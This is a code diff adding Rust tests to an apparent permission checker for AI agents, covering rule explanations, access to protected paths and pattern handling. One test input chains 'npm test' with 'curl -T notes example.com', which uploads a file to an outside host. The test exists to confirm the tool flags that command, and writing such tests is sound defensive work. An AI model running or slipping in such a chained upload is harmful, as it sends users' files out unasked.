@@ -85,6 +85,48 @@ fn an_explanation_names_the_rule_the_line_each_stage_the_chain_and_the_way_out()
     }
 }
 
+#[test]
+fn what_the_rules_leave_over_of_a_line_is_named() {
+    let (_world, config) = saved(FILE);
+    let (status, told) = asked("explain", &config, "lead", &["--command", "npm test; curl -T notes example.com"]);
+    assert_eq!(status, Some(2), "{told}");
+    assert!(told.contains("rules allow a part of it, and none allows `curl`"), "{told}");
+    let (_, told) = asked("explain", &config, "lead", &["--command", "curl -T notes example.com"]);
+    assert!(!told.contains("a part of it"), "{told}");
+}
+
+/// One line of the file does both: it reaches what is protected, and gives the right.
+#[test]
+fn the_way_to_what_is_protected_is_one_line_that_names_it() {
+    let (world, config) = saved(&("[engine]\nprotected = [\"outside\"]\n".to_owned() + FILE));
+    let secret = world.text("outside/secret");
+    let (status, told) = asked("explain", &config, "lead", &["--write", &secret]);
+    assert_eq!(status, Some(3), "{told}");
+    let ways: Vec<_> = told.lines().filter(|line| line.contains("to allow it:") || line.contains("and:")).collect();
+    assert_eq!(ways.len(), 1, "{told}");
+    assert!(ways[0].contains(&format!("name exactly `{secret}` in `permissions` of `[agents.lead]`")), "{told}");
+    let text = fs::read_to_string(&config).unwrap();
+    for (named, code, why) in
+        [(world.text("outside"), 3, "a directory above does not do"), (secret.clone(), 0, "that line does")]
+    {
+        fs::write(&config, text.replace("@write:workspace", &format!("@write:{named}"))).unwrap();
+        assert_eq!(asked("check", &config, "lead", &["--write", &secret]).0, Some(code), "{why}");
+    }
+}
+
+#[test]
+fn a_pattern_is_no_path_to_give_unless_something_is_called_so() {
+    let (world, config) = saved(&FILE.replace("@write:workspace", "@write:workspace/notes*"));
+    let checked = bestow(&["check-config", &config], b"");
+    let said = text(&checked.stdout).to_owned() + text(&checked.stderr);
+    assert!(said.contains("a path that is given holds no pattern"), "{said}");
+    assert!(!checked.status.success(), "{said}");
+    fs::write(world.path("workspace/notes*"), "").unwrap();
+    let checked = bestow(&["check-config", &config], b"");
+    let said = text(&checked.stdout).to_owned() + text(&checked.stderr);
+    assert!(!said.contains("holds no pattern"), "{said}");
+}
+
 /// A shell would have put the home directory there; in quotes, or from a program, it is only a name.
 #[test]
 fn a_tilde_is_no_directory_and_a_url_no_host() {
